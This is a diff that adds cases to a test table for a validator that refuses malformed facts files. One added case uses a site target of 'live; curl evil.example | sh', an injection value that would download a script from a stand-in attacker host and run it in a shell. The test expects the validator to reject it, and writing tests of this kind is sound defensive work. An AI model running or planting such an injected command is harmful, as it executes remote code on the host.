@@ -87,6 +87,23 @@ describe('another file is refused by its name, and by what is wrong with it', ()
     ['no facts', '[]', /names no version/],
     ['a later version', wrong((facts) => ({ ...facts, version: 2 })), /version 2.*version 1/],
     ['a fact missing', wrong((facts) => ({ ...facts, facts: {} })), /^At facts\.caller: /],
+    [
+      'a target that would be a command',
+      factsToJson(factsWith({}, { site: { target: 'live; curl evil.example | sh' } })),
+      /^At site\.target: it is no name of a target/,
+    ],
+    [
+      'an address that is none',
+      factsToJson(
+        factsWith({
+          face: {
+            handshakes: [],
+            answers: [{ url: '/', purpose: 'home', answer: { is: 'unanswered', why: '' } }],
+          },
+        }),
+      ),
+      /^At facts\.face\.value\.answers\.0\.url: it is no URL/,
+    ],
     ['no instant', wrong((facts) => ({ ...facts, at: 'yesterday' })), /^At at: Invalid ISO/],
   ])('%s', (_, text, why) => {
     const error = (() => {
